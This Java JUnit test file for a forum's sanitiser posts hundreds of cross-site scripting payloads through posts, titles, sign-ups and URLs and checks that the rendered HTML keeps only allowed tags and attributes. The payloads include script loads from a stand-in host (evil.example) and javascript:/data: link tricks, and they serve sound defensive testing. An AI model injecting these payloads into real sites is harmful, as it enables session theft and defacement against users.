package waymark.threads;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.Node;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import waymark.TestForum;
import waymark.testing.Answer;

/**
 * Everything that people can write goes in here in the shape of an attack, by every way there is, and what comes out is
 * read as a browser would read it.
 *
 * <p>The payloads stand one to a line; ⏎ is a line break inside of one.
 */
class XssTest {

    private static final String SCRIPTS = """
            <script>alert(1)</script>
            <ScRiPt>alert(1)</sCrIpT>
            <script/src=//evil.example/x.js></script>
            <script src=https://evil.example/x.js></script>
            <SCRIPT SRC=http://evil.example/x.js?< B >
            <script >alert(1)</script >
            <script\t>alert(1)</script\t>
            <script⏎>alert(1)</script⏎>
            <script/x>alert(1)</script/x>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <<script>alert(1);//<</script>
            <script>/*⏎⏎*/alert(1)⏎⏎</script>
            <script type="module">import "https://evil.example/x.js"</script>
            <script charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>
            <script x=">">alert(1)</script>
            <script>alert`1`</script>
            <svg><script>alert&#40;1)</script></svg>
            <svg><script href="data:text/javascript,alert(1)"/></svg>
            ＜script＞alert(1)＜/script＞
            ¼script¾alert(1)¼/script¾
            %3Cscript%3Ealert(1)%3C/script%3E
            +ADw-script+AD4-alert(1)+ADw-/script+AD4-
            &lt;script&gt;alert(1)&lt;/script&gt;
            &#60;script&#62;alert(1)&#60;/script&#62;
            &#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
            &#x000003cscript&#x000003ealert(1)
            &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
            \\<script>alert(1)\\</script>
            \\x3cscript\\x3ealert(1)\\x3c/script\\x3e
            '"><script>alert(1)</script>
            </p></div></body></html><script>alert(1)</script>
            <?php echo 1 ?><script>alert(1)</script>
            """;

    private static final String HANDLERS = """
            <img src=x onerror=alert(1)>
            <img src=x onerror="alert(1)"
            <IMG SRC=x OnErRoR=alert(1)>
            <img/src=x/onerror=alert(1)>
            <img src="x`<script>alert(1)</script>`">
            <img src='x' onerror='alert("it&#39;s")'>
            <img \"""><script>alert(1)</script>">
            <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
            <img src=x:alert(alt) onerror=eval(src) alt=1>
            <img src=x ⏎⏎onerror=alert(1)>
            <img src="javascript:alert(1)">
            <img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
            <body onload=alert(1)>
            <html onmouseover=alert(1)><head></head>
            <input autofocus onfocus=alert(1)>
            <input type=image src=javascript:alert(1)>
            <select onchange=alert(1)><option>1<option>2</select>
            <textarea autofocus onfocus=alert(1)></textarea>
            <details open ontoggle=alert(1)><summary>x</summary></details>
            <video><source onerror=alert(1)></video>
            <video poster=javascript:alert(1)></video>
            <audio src=x onerror=alert(1)>
            <marquee onstart=alert(1)>x</marquee>
            <div onpointerover="alert(1)" style="position:fixed;inset:0">x</div>
            <a href="#" onclick=alert(1)>x</a>
            <a href=https://ok.example/ onmouseover=alert(1)>x</a>
            <b onmouseover=alert(1)>x</b>
            <p onanimationstart=alert(1) style="animation:x">x</p>
            <br onmouseenter=alert(1)>
            <code onclick=alert(1)>x</code>
            <blockquote onclick=alert(1)>x</blockquote>
            <ol start="1" onclick=alert(1)><li>x</ol>
            <button formaction=javascript:alert(1)>x</button>
            <form action=javascript:alert(1)><input type=submit></form>
            <form id=document><input name=cookie></form>
            <xss id=x tabindex=1 onfocus=alert(1)></xss>
            "onmouseover="alert(1)
            ' onfocus='alert(1)' autofocus='
            &quot; onclick=alert(1) x=&quot;
            """;

    private static final String MUTATIONS = """
            <svg onload=alert(1)>
            <svg/onload=alert(1)>
            <svg><animate onbegin=alert(1) attributeName=x dur=1s>
            <svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>
            <svg><set attributeName=href to=javascript:alert(1)></svg>
            <svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>
            <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
            <svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
            <svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
            <math href="javascript:alert(1)">x</math>
            <math><mi xlink:href="data:x,<script>alert(1)</script>">x</math>
            <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">
            <template><script>alert(1)</script></template>
            <template shadowrootmode=open><img src=x onerror=alert(1)></template>
            <style>@import 'https://evil.example/x.css';</style>
            <style><!--</style><script>alert(1)//--></script>
            <p style="background:url(javascript:alert(1))">x</p>
            <p style="width:expression(alert(1))">x</p>
            <p class="mention" id="location">x</p>
            <a name="x" class="mention" href="javascript:alert(1)">x</a>
            <a href="/members/alice" class="mention admin" style="color:red" rel="opener" target=_blank>x</a>
            <link rel=stylesheet href=https://evil.example/x.css>
            <iframe src=javascript:alert(1)></iframe>
            <iframe srcdoc="<script>alert(1)</script>"></iframe>
            <iframe src=http://evil.example/x.html <
            <object data=javascript:alert(1)></object>
            <object type=text/html data="data:text/html,<script>alert(1)</script>"></object>
            <embed src=javascript:alert(1)>
            <applet code=x.class archive=https://evil.example/x.jar></applet>
            <base href=https://evil.example/>
            <meta http-equiv=refresh content="0;url=javascript:alert(1)">
            <isindex action=javascript:alert(1) type=image>
            <frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
            <table background=javascript:alert(1)><tr><td>x</td></tr></table>
            <textarea></textarea><img src=x onerror=alert(1)></textarea>
            <title></title><img src=x onerror=alert(1)></title>
            <xmp><p title="</xmp><svg/onload=alert(1)>">
            <plaintext><img src=x onerror=alert(1)>
            <select><style></select><img src=x onerror=alert(1)></style>
            <!--><img src=x onerror=alert(1)>-->
            <!-- --!><img src=x onerror=alert(1)> -->
            <!-- x⏎⏎<script>alert(1)</script>
            <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
            <![CDATA[<img src=x onerror=alert(1)>]]>
            <![CDATA[⏎⏎]]><img src=x onerror=alert(1)>
            <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
            <?xml-stylesheet href="javascript:alert(1)"?>
            <? foo="><script>alert(1)</script>">
            </ foo="><script>alert(1)</script>">
            """;

    private static final String LINKS = """
            [x](javascript:alert(1))
            [x](JaVaScRiPt:alert(1))
            [x]( javascript:alert(1) )
            [x](javascript&colon;alert(1))
            [x](javascript&#58;alert(1))
            [x](javascript&#x0003a;alert(1))
            [x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))
            [x](&#x6a;&#x61;vascript:alert(1))
            [x](java&Tab;script:alert(1))
            [x](java&NewLine;script:alert(1))
            [x](java&#13;script:alert(1))
            [x](&#1;javascript:alert(1))
            [x](&#32;javascript:alert(1))
            [x](<java\tscript:alert(1)>)
            [x](<java⏎script:alert(1)>)
            [x](<\tjavascript:alert(1)>)
            [x](java\tscript:alert(1))
            [x](java\\script:alert(1))
            [x](\\javascript:alert(1))
            [x](javascript\\:alert(1))
            [x](\\u006aavascript:alert(1))
            [x](javas%63ript:alert(1))
            [x](%6aavascript:alert(1))
            [x](javascript://https://ok.example/%0aalert(1))
            [x](javascript:https://ok.example)
            [x](ｊavascript:alert(1))
            [x](javaſcript:alert(1))
            [x](javascrıpt:alert(1))
            [x](java\u00adscript:alert(1))
            [x](java\u200bscript:alert(1))
            [x](vbscript:msgbox(1))
            [x](VbScRiPt:msgbox(1))
            [x](livescript:alert(1))
            [x](data:text/html,<script>alert(1)</script>)
            [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
            [x](data:image/svg+xml,<svg/onload=alert(1)>)
            [x](<data:image/svg+xml;base64,PHN2Zy8+>)
            [x](DATA:,x)
            [x](feed:javascript:alert(1))
            [x](view-source:javascript:alert(1))
            [x](file:///etc/passwd)
            [x](blob:https://ok.example/1)
            [x](jar:https://evil.example/x.jar!/x.html)
            [x](about:blank)
            [x](intent://x#Intent;scheme=http;end)
            <javascript:alert(1)>
            <JAVASCRIPT:alert(1)>
            <javascript&colon;alert(1)>
            <vbscript:msgbox(1)>
            <data:text/html,x>
            <https://ok.example/"onclick="alert(1)>
            <https://ok.example/'onclick='alert(1)>
            <https://ok.example/`onclick=alert(1)>
            <me@ok.example"onclick="alert(1)>
            <mailto:me@ok.example?subject="onclick="alert(1)>
            [x](https://ok.example/"onmouseover="alert(1))
            [x](https://ok.example/&quot;onmouseover=&quot;alert(1))
            [x](<https://ok.example/" onmouseover="alert(1)>)
            [x](<https://ok.example/><script>alert(1)</script>)
            [x](https://ok.example/?a=1&b=<2>'`{})
            [x](https://ok.example "title" onclick="alert(1)")
            [x](https://ok.example "t\\"onclick=alert(1) x=\\"")
            [x](https://ok.example '"onclick=alert(1)//')
            [x](https://ok.example (t&quot;onclick=alert(1)))
            [x"onclick=alert(1)](https://ok.example)
            [<img src=x onerror=alert(1)>](https://ok.example)
            [<script>alert(1)</script>](javascript:alert(1))
            [x][1]⏎⏎[1]: javascript:alert(1)
            [x]⏎⏎[x]: <javascript:alert(1)> "t\\" onclick=alert(1)"
            [x][]⏎⏎[x]: data:text/html,<script>alert(1)</script>
            [x]: https://ok.example/"onclick="alert(1)⏎⏎[x]
            [a]: <https://ok.example/> '">&lt;script>alert(1)</script>'⏎⏎[a]
            [a]: <java⏎script:alert(1)>⏎⏎[a]
            ![x](javascript:alert(1))
            ![x](https://ok.example/"onerror="alert(1))
            ![x" onerror="alert(1)](https://ok.example/x.png)
            ![x](data:image/svg+xml,<svg/onload=alert(1)>)
            ![](javascript:alert(1))
            ![x](https://ok.example/x.png "x" onerror=alert(1))
            ![<script>alert(1)</script>](https://ok.example/x.png)
            [![x](javascript:alert(1))](javascript:alert(2))
            ![![x](javascript:alert(1))](data:text/html,x)
            ![[x](javascript:alert(1))](https://ok.example/x.png)
            https://ok.example/"onclick="alert(1)
            https://ok.example/<script>alert(1)</script>
            www.ok.example/"><img src=x onerror=alert(1)>
            http://ok.example/?q=<svg/onload=alert(1)>&x='"
            javascript:alert(1)//https://ok.example
            me"onclick="alert(1)@ok.example
            """;

    private static final String MARKDOWN = """
            @"><script>alert(1)</script>
            @alice"><script>alert(1)</script>
            @alice" onclick="alert(1)
            @alice<img src=x onerror=alert(1)>
            @<script>alert(1)</script>
            @../../x"onclick=alert(1)
            @alice/../../admin
            @alice?x=javascript:alert(1)
            [@alice](javascript:alert(1))
            ![@alice](javascript:alert(1))
            **@alice"onclick=alert(1)**
            &commat;alice" onclick="alert(1)
            :wave"><script>alert(1)</script>:
            :<script>alert(1)</script>:
            :wave:<script>alert(1)</script>:wave:
            [:wave:](javascript:alert(1))
            <:wave:script>alert(1)</script>
            ```⏎<script>alert(1)</script>⏎```
            ```"onclick=alert(1)⏎x⏎```
            ``` html" onmouseover="alert(1)⏎x⏎```
            ```⏎</code></pre><script>alert(1)</script>
            ~~~<script>alert(1)</script>⏎x⏎~~~
            `<script>alert(1)</script>`
            `</code><img src=x onerror=alert(1)>`
            `` ` <img src=x onerror=alert(1)> ` ``
                <script>alert(1)</script>
            x⏎⏎\t<img src=x onerror=alert(1)>
            > > > <script>alert(1)</script>
            > <img src=x⏎> onerror=alert(1)>
            - <script>⏎- alert(1)</script>
            1. <svg/onload=alert(1)>
            999999999. <b onclick=alert(1)>x</b>
            1"onclick=alert(1). x
            # <script>alert(1)</script>
            <script>alert(1)</script>⏎====
            ~~<script>alert(1)</script>~~
            **<script>**alert(1)**</script>**
            *<img src=x* onerror=alert(1)>
            <b>*x</b>*
            __proto__[onload]=alert(1)
            \\&lt;script\\&gt;alert(1)
            | <script> | alert(1) |⏎|---|---|
            {{constructor.constructor('alert(1)')()}}
            ${alert(1)} #{alert(1)} <%= alert(1) %>
            ';alert(String.fromCharCode(88,83,83))//\\';alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>
            jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</scRipt/--!><sVg/oNloAd=alert()//>
            """;

    /** Characters that nobody sees, some of which the forum does not keep at all. */
    private static final String INVISIBLE = """
            <scr\0ipt>alert(1)</scr\0ipt>
            <img src=x onerror\0=alert(1)>
            [x](java\0script:alert(1))
            &#0;<script&#0;>alert(1)</script>
            [x](java&#0;script:alert(1))
            <script\u200b>alert(1)</script\u200b>
            <script\u00a0>alert(1)</script>
            <\ufeffscript>alert(1)</script>
            \ufeff<script>alert(1)</script>
            \u202e<script>alert(1)</script>\u202c
            [x](\u202ejavascript:alert(1))
            [\u202ex\u2066](https://ok.example/\u202egnp.exe)
            @alice\u202e" onclick="alert(1)
            <\u2028script>alert(1)</script>
            <img\13src=x\13onerror=alert(1)>
            <img\fsrc=x\fonerror=alert(1)>
            \1\2<script>\3alert(1)\33[31m</script>\177
            <script>\u0085alert(1)</script>
            \ufffe<script>alert(1)</script>\uffff
            \ud83d\ude00<script>alert('\ud83d\ude00')</script>
            <\u0130mg src=x onerror=alert(1)>
            <ſcript>alert(1)</ſcript>
            &#xD800;<script>alert(1)</script>&#x110000;
            &#x202e;&#8232;<script>alert(1)</script>
            \u0000
            \u200b
            """;

    private static final Set<String> ELEMENTS = Set.of(
            "p",
            "br",
            "strong",
            "em",
            "del",
            "blockquote",
            "ul",
            "ol",
            "li",
            "code",
            "pre",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "a");
    private static final Set<String> ATTRIBUTES = Set.of("a href", "a rel", "a class", "ol start");
    private static final Set<String> RELATIONS = Set.of("nofollow", "noopener", "ugc");
    private static final Pattern MEMBER = Pattern.compile("/members/([A-Za-z0-9_-]+)");
    private static final Pattern ADDRESS = Pattern.compile("(?i)(https?|mailto|tel):\\P{Cc}*");

    private static final AtomicInteger SIGN_UPS = new AtomicInteger();

    @RegisterExtension
    static final TestForum forum = new TestForum();

    /** What waits for a moderator is seen by nobody, and here it has to be seen. */
    @BeforeAll
    static void nothingWaits() {
        forum.mo()
                .with("If-Match", "*")
                .patch("/personal-data-rules/email", Map.of("action", "off"))
                .expect(200);
    }

    static List<String> payloads() {
        return payloads(SCRIPTS, HANDLERS, MUTATIONS, LINKS, MARKDOWN, INVISIBLE);
    }

    static List<String> tags() {
        return payloads(SCRIPTS, HANDLERS, MUTATIONS);
    }

    /** Those that are not about Markdown, for where nothing reads any. */
    static List<String> words() {
        return payloads(SCRIPTS, HANDLERS, MUTATIONS, INVISIBLE);
    }

    private static List<String> payloads(String... kinds) {
        return Stream.of(kinds)
                .flatMap(kind -> Stream.of(kind.split("\n")))
                .map(line -> line.replace('⏎', '\n'))
                .toList();
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("payloads")
    void aPostIsHarmlessToEverybodyWhoReadsIt(String payload) {
        var opened =
                forum.alice().post("/threads", Map.of("title", "A title", "category", "recovery", "markdown", payload));
        if (!isKept(payload)) {
            requireRefused(payload, opened, "/markdown");
            requireRefused(payload, post(payload), "/markdown");
            return;
        }
        requireHarmless(payload, opened.expect(201));

        var thread = "/threads/" + opened.text("/thread/id");
        var replied = forum.bob().post(thread + "/posts", Map.of("markdown", payload));
        requireHarmless(payload, replied.expect(201));
        assertEquals(payload, replied.text("/post/markdown"));

        for (var reader : List.of(forum.guest(), forum.mo())) {
            var seen = reader.get("/posts/" + replied.text("/post/id")).expect(200);
            requireHarmless(payload, seen);
            assertEquals(replied.text("/post/text"), seen.text("/post/text"));
        }
        requireHarmless(payload, forum.guest().get(thread).expect(200));
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("tags")
    void tagsAreShownAsTheWordsTheyAre(String payload) {
        var post = post(payload).expect(201);
        var shown = withoutSpaces(Jsoup.parse(post.text("/post/html")).wholeText());

        if (Pattern.compile("[&\\\\*_~`\\[]").matcher(payload).find()) {
            // Markdown has its own reading of these, which is the same for the page and for the plain text.
            assertEquals(withoutSpaces(post.text("/post/text")), shown);
        } else {
            assertEquals(withoutSpaces(payload), shown);
            assertEquals(withoutSpaces(payload), withoutSpaces(post.text("/post/text")));
        }
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("payloads")
    void aQuoteComesBackWordForWord(String payload) {
        var thread = aThread();
        var posted = forum.alice().post(thread + "/posts", Map.of("markdown", payload));
        var words = posted.text("/post/text");
        if (words.isBlank()) {
            return;
        }
        var quotes = List.of(Map.of("post", posted.text("/post/id"), "text", words));
        var quoting = forum.bob()
                .post(thread + "/posts", Map.of("markdown", "The answer.", "quotes", quotes))
                .expect(201);
        requireQuoted(payload, words, quoting);

        var answer = "/posts/" + quoting.text("/post/id");
        requireQuoted(payload, words, forum.guest().get(answer).expect(200));
        requireQuoted(
                payload,
                words,
                forum.bob()
                        .with("If-Match", "*")
                        .patch(answer, Map.of("quotes", quotes))
                        .expect(200));
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("payloads")
    void aTitleComesBackAsItWasGiven(String payload) {
        var thread = aThread();
        var made = forum.alice()
                .post("/threads", Map.of("title", payload, "category", "recovery", "markdown", "The opening words."));
        var changed = forum.alice().with("If-Match", "*").patch(thread, Map.of("title", payload));
        if (!isATitle(payload)) {
            requireRefused(payload, made, "/title");
            requireRefused(payload, changed, "/title");
            return;
        }
        requireTitle(payload, "/thread/title", made.expect(201));
        requireTitle(payload, "/thread/title", changed.expect(200));
        requireTitle(payload, "/thread/title", forum.guest().get(thread).expect(200));
        requireTitle(
                payload,
                "/items/0/title",
                forum.guest().get("/threads?sort=newest&limit=1").expect(200));
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("words")
    void nobodyJoinsUnderSuchAName(String payload) {
        requireRefused(payload, signUp(payload, "somebody@example.org"), "/username");
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("words")
    void anEmailAddressComesBackAsItWasGivenOrIsRefused(String payload) {
        var email = payload + "@example.org";
        var answer = signUp("reader-" + SIGN_UPS.incrementAndGet(), email);
        if (answer.status() == 201) {
            assertEquals(email, requirePlain(payload, answer).text("/account/email"));
        } else {
            requireRefused(payload, answer, "/email");
        }
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("payloads")
    void aLinkInAnEditIsHarmlessAndSoIsWhatItReplaces(String payload) {
        var post = "/posts/" + post("The first words.").expect(201).text("/post/id");
        var author = forum.alice().with("If-Match", "*");
        var edits = Stream.of(
                        "[look](https://ok.example/%s \"%s\")",
                        "<https://ok.example/%s>",
                        "https://ok.example/%s",
                        "[%s](javascript:%s)",
                        "![%s](<https://ok.example/%s>)")
                .map(link -> link.replace("%s", payload))
                .toList();
        for (var edit : edits) {
            var answer = author.patch(post, Map.of("markdown", edit));
            if (payload.indexOf('\0') >= 0) {
                requireRefused(payload, answer, "/markdown");
            } else {
                requireHarmless(edit, answer.expect(200));
                assertEquals(edit, answer.text("/post/markdown"));
            }
        }
        if (payload.indexOf('\0') < 0) {
            var revisions = author.get(post + "/revisions").expect(200);
            requireHarmless(payload, revisions);
            assertEquals(edits.size(), revisions.at("/items").size());
        }
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("words")
    void theReasonOfAModeratorComesBackAsItWasGiven(String payload) {
        var reason = "Why: " + payload;
        var post = "/posts/" + post("The first words.").expect(201).text("/post/id");
        var removed = forum.mo().with("If-Match", "*").put(post + "/removal", TestForum.removal(reason));
        if (payload.indexOf('\0') >= 0) {
            requireRefused(payload, removed, "/message");
            return;
        }
        assertEquals(reason, requirePlain(payload, removed.expect(200)).text("/decision/message"));
        var read = forum.alice().get(post).expect(200);
        assertEquals(reason, requirePlain(payload, read).text("/post/removalReason"));
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("words")
    void whatAnErrorNamesIsNoPage(String payload) {
        // What has a line break or a NUL in it has tests of its own below.
        var name = payload.replaceAll("[\\n\\r\\x85\\u2028\\u2029\\x00]", "");
        var encoded = URLEncoder.encode(name, StandardCharsets.UTF_8).replace("+", "%20");
        requireRefused(payload, forum.bob().get("/members/" + encoded + "%20"));
        requireRefused(payload, forum.guest().get("/threads?sort=" + encoded));
        requireRefused(payload, forum.guest().get("/threads?x" + encoded + "=1"));
        requireRefused(payload, forum.guest().get("//" + encoded + "%20"));
        requireRefused(payload, forum.alice().post("/threads", Map.of("x" + name, "x")));
    }

    @Test
    void halvesOfSurrogatePairsAreRefused() {
        var lone = "{\"markdown\": \"\\ud83d<script>alert(1)</script>\"}";
        requireRefused(lone, forum.alice().post(aThread() + "/posts", lone), "/markdown");
    }

    @Test
    void aMentionIsALinkToItsMemberAndToNobodyElse() {
        var html = post("@ALICE\"><b> and [Alice](/members/alice)").expect(201).text("/post/html");

        assertEquals(List.of(), departures(html));
        assertEquals(List.of("@ALICE"), Jsoup.parse(html).select("a.mention").eachText(), html);
    }

    /** On the page of whoever shows the post, a path would be a path of that page. */
    @Test
    void aLinkLeadsToAWholeAddressOrToAMember() {
        assertAll(Stream.of(
                        "[x](settings)",
                        "[x](//evil.example)",
                        "[x](/api/v1/me)",
                        "[x](?a=b)",
                        "[x](#top)",
                        "[x](&#x6a&#x61vascript:alert(1))")
                .map(markdown -> () -> requireHarmless(markdown, post(markdown).expect(201))));
    }

    /** A link to nowhere leads back to the page it is on, which is a riddle to whoever follows it. */
    @Test
    void anAddressThatIsNotTakenLeavesItsWordsAndNoLink() {
        assertAll(Stream.of("[x](javascript:alert(1))", "<javascript:alert(1)>", "[x](data:,x)", "[x](ftp://x.example)")
                .map(markdown -> () -> {
                    var html = post(markdown).expect(201).text("/post/html");
                    assertTrue(Jsoup.parse(html).select("a").isEmpty(), html);
                }));
    }

    @Test
    void anErrorNamesWhatHasALineBreakInIt() {
        assertAll(
                () -> requireRefused("x\nx", forum.guest().get("/threads?x%0Ax=1"), "/x\nx"),
                () -> requireRefused("x\nx", forum.alice().post("/threads", Map.of("x\nx", "x")), "/x\nx"));
    }

    /** The server hangs up after such an address; who is not told sends the next request into nothing. */
    @Test
    void anAnswerThatIsTheLastOfItsConnectionSaysSo() {
        var answer = forum.guest().get("//%00");
        requireRefused("%00", answer);
        assertEquals("close", answer.header("Connection"));
    }

    private static String aThread() {
        return "/threads/" + forum.thread(forum.alice()).thread();
    }

    private static Answer post(String markdown) {
        return forum.alice().post(aThread() + "/posts", Map.of("markdown", markdown));
    }

    private static boolean isKept(String payload) {
        return payload.indexOf('\0') < 0 && !payload.isBlank();
    }

    private static boolean isATitle(String payload) {
        int length = payload.strip().codePointCount(0, payload.strip().length());
        return length >= 5
                && payload.codePointCount(0, payload.length()) <= 200
                && payload.codePoints().noneMatch(Character::isISOControl);
    }

    private static Answer signUp(String username, String email) {
        var wordings = forum.guest().get("/consent-wordings").expect(200).at("/items");
        var consents = StreamSupport.stream(wordings.spliterator(), false)
                .map(wording -> Map.of(
                        "purpose", wording.path("purpose").asText(),
                        "wordingVersion", wording.path("version").asText()))
                .toList();
        return forum.guest()
                .post(
                        "/accounts",
                        Map.of(
                                "username", username,
                                "email", email,
                                "password", "a long and quiet sentence",
                                "ageAtLeast", 18,
                                "consents", consents));
    }

    private static void requireTitle(String payload, String pointer, Answer answer) {
        assertEquals(payload.strip(), requirePlain(payload, answer).text(pointer));
        for (var html : answer.json().findValuesAsText("html")) {
            assertEquals("<p>The opening words.</p>", html.strip());
        }
    }

    private static void requireQuoted(String payload, String words, Answer answer) {
        assertEquals(words, requirePlain(payload, answer).text("/post/quotes/0/text"));
        assertEquals("<p>The answer.</p>", answer.text("/post/html").strip());
    }

    /** What is no page is not taken for one, whatever is in it. */
    private static Answer requirePlain(String payload, Answer answer) {
        var wanted = answer.status() < 400 ? "application/json" : "application/problem+json";
        assertEquals(wanted, answer.header("Content-Type").split(";", 2)[0], payload);
        assertEquals("nosniff", answer.header("X-Content-Type-Options"), payload);
        return answer;
    }

    private static void requireRefused(String payload, Answer answer, String... places) {
        assertTrue(answer.status() >= 400 && answer.status() < 500, () -> payload + " got " + answer.body());
        assertTrue(requirePlain(payload, answer).wrongPlaces().containsAll(List.of(places)), answer::body);
        assertTrue(answer.json().findValues("html").isEmpty(), answer::body);
    }

    private static Answer requireHarmless(String payload, Answer answer) {
        var pages = requirePlain(payload, answer).json().findValuesAsText("html");
        assertFalse(pages.isEmpty(), answer::body);
        for (var html : pages) {
            assertEquals(List.of(), departures(html), () -> payload + " became " + html);
        }
        return answer;
    }

    /** What a browser would find in this besides what is meant to be there; also when a page reads and writes it again. */
    private static List<String> departures(String html) {
        var parser = Parser.htmlParser().setTrackErrors(10);
        var document = parser.parseInput(html, "");
        var departures = new ArrayList<>(departures(document));
        parser.getErrors().forEach(error -> departures.add(error.toString()));
        departures.addAll(departures(Jsoup.parse(document.body().html())));
        return departures;
    }

    private static List<String> departures(Document document) {
        var departures = new ArrayList<String>();
        document.traverse((node, depth) -> {
            if (node instanceof Element element && !isOnlyFrame(element)) {
                departures.addAll(departures(element));
            } else if (!(node instanceof Element) && !isHarmless(node)) {
                departures.add(node.outerHtml());
            }
        });
        return departures;
    }

    /** Text, and the empty comments which keep two braces apart that a template engine would take for its own. */
    private static boolean isHarmless(Node node) {
        return node instanceof Comment comment
                ? comment.getData().isBlank()
                : node.nodeName().equals("#text");
    }

    /** What a parser puts around everything. */
    private static boolean isOnlyFrame(Element element) {
        return Set.of("#root", "html", "head", "body").contains(element.normalName())
                && element.attributes().isEmpty();
    }

    private static List<String> departures(Element element) {
        var departures = new ArrayList<String>();
        var name = element.normalName();
        if (!ELEMENTS.contains(name)) {
            departures.add("<" + name + ">");
        }
        for (Attribute attribute : element.attributes()) {
            if (!ATTRIBUTES.contains(name + " " + attribute.getKey()) || !isAllowed(element, attribute)) {
                departures.add("<" + name + " " + attribute + ">");
            }
        }
        if (name.equals("a") && !Set.of(element.attr("rel").split(" ")).equals(RELATIONS)) {
            departures.add("<a> without its rel");
        }
        return departures;
    }

    private static boolean isAllowed(Element element, Attribute attribute) {
        var value = attribute.getValue();
        return switch (attribute.getKey()) {
            case "href" ->
                ADDRESS.matcher(value).matches() || MEMBER.matcher(value).matches();
            case "class" -> value.equals("mention") && saysWhoItLeadsTo(element);
            case "start" -> value.matches("[0-9]{1,9}");
            default -> true;
        };
    }

    private static boolean saysWhoItLeadsTo(Element mention) {
        var member = MEMBER.matcher(mention.attr("href"));
        return member.matches() && mention.wholeText().equalsIgnoreCase("@" + member.group(1));
    }

    private static String withoutSpaces(String text) {
        return text.replaceAll("\\s+", "");
    }
}
